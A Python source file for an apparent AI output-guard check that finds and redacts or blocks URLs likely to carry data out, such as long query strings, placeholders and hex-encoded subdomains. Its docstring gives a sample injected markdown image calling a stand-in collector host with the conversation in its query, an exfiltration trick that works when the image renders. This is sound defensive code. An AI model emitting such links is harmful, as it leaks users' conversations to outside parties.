"""``exfil_links``: URLs in an output that would carry data out when rendered or followed.

A chat client fetches a markdown image as soon as it renders it, so an injected
``![x](https://collector.example/?q=<the conversation>)`` sends data out without a click.
A URL is flagged when:

* it is a markdown image whose query string is longer than ``max_image_query_chars``;
* its query string is longer than ``max_query_chars``, or holds a template placeholder
  (``{``, ``[``, ``<``, ``$``);
* a subdomain label is longer than ``max_label_chars`` or is a long hex string (data
  encoded into a DNS name), or the host has more than ``max_labels`` labels;
* ``allowed_domains`` is set and the host is not one of them or their subdomains.

``action: redact`` (the default) drops each flagged URL for ``[REDACTED:url]``;
``action: block`` blocks. Reasons name what was wrong, never the URL.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any, ClassVar, Literal
from urllib.parse import urlsplit

from infershield.checks.base import Check, CheckContext, Stage
from infershield.errors import ConfigError
from infershield.verdict import Verdict

_URL = re.compile(r"(?i)\b(?:https?|ftp)://[^\s<>\"'`)\]]+")
_IMAGE_BEFORE = re.compile(r"!\[[^\]\n]{0,500}\]\(\s*<?$")
_HEX_LABEL = re.compile(r"[0-9a-f]{16,}")
_PLACEHOLDER = re.compile(r"[{\[<$]|%7b|%5b|%3c|%24", re.IGNORECASE)
_DOMAIN = re.compile(r"^(?=.{1,253}$)([a-z0-9-]{1,63}\.)*[a-z0-9-]{1,63}$")
REPLACEMENT = "[REDACTED:url]"


@dataclass(frozen=True, kw_only=True)
class ExfilLinksOptions:
    """Options of the ``exfil_links`` check."""

    action: Literal["block", "redact"] = "redact"
    #: Hosts (and their subdomains) links may point to; empty allows every host.
    allowed_domains: tuple[str, ...] = ()
    #: A query string longer than this carries data.
    max_query_chars: int = 64
    #: The same for markdown images, which a client fetches without a click.
    max_image_query_chars: int = 16
    #: A longer subdomain label carries data.
    max_label_chars: int = 32
    #: A host with more labels than this carries data.
    max_labels: int = 8


class ExfilLinksCheck(Check):
    """Redacts (or blocks) URLs that carry data or point outside the allowed domains."""

    runs_inline: ClassVar[bool] = True  # one regex pass on short texts

    Options: ClassVar[type[Any]] = ExfilLinksOptions
    stages: ClassVar[tuple[Stage, ...]] = ("output",)

    def __init__(self, name: str, options: ExfilLinksOptions | None = None) -> None:
        super().__init__(name, options)
        opts: ExfilLinksOptions = self.options
        for field_name in ("max_query_chars", "max_image_query_chars", "max_label_chars",
                           "max_labels"):
            if getattr(opts, field_name) < 0:
                raise ConfigError(f"{field_name}: must not be negative")
        domains = []
        for i, d in enumerate(opts.allowed_domains):
            norm = d.strip().lower().rstrip(".").removeprefix("*.")
            if not _DOMAIN.match(norm):
                raise ConfigError(f"allowed_domains[{i}]: not a domain name: {d!r}")
            domains.append(norm)
        self._allowed = tuple(domains)

    def check(self, ctx: CheckContext) -> Verdict:
        text = ctx.text
        flagged: list[tuple[int, int, str]] = []
        for m in _URL.finditer(text):
            url = m.group().rstrip(".,;:!?")
            image = bool(_IMAGE_BEFORE.search(text, max(0, m.start() - 512), m.start()))
            why = self._why(url, image)
            if why:
                flagged.append((m.start(), m.start() + len(url), why))
        if not flagged:
            return self.allow()
        reasons = sorted({w for _, _, w in flagged})
        reason = f"{len(flagged)} exfiltration link(s): {', '.join(reasons)}"
        kw: dict[str, Any] = {
            "categories": ("exfiltration",),
            "details": tuple((r, str(sum(w == r for _, _, w in flagged))) for r in reasons),
        }
        if self.options.action == "block":
            return self.block(reason, 0.9, **kw)
        out: list[str] = []
        pos = 0
        for s, e, _ in flagged:
            out.append(text[pos:s])
            out.append(REPLACEMENT)
            pos = e
        out.append(text[pos:])
        return self.redact(reason, "".join(out), 0.9, **kw)

    def _why(self, url: str, image: bool) -> str:
        opts: ExfilLinksOptions = self.options
        try:
            parts = urlsplit(url)
            host = (parts.hostname or "").lower().rstrip(".")
        except ValueError:
            return "malformed url"
        if self._allowed and not any(host == d or host.endswith("." + d) for d in self._allowed):
            return "domain not allowed"
        query = parts.query
        if _PLACEHOLDER.search(query):
            return "placeholder in query"
        limit = opts.max_image_query_chars if image else opts.max_query_chars
        if len(query) > limit:
            return "image query carries data" if image else "long query string"
        labels = host.split(".")
        if len(labels) > opts.max_labels:
            return "data in subdomain"
        for label in labels[:-2]:
            if len(label) > opts.max_label_chars or _HEX_LABEL.fullmatch(label):
                return "data in subdomain"
        return ""
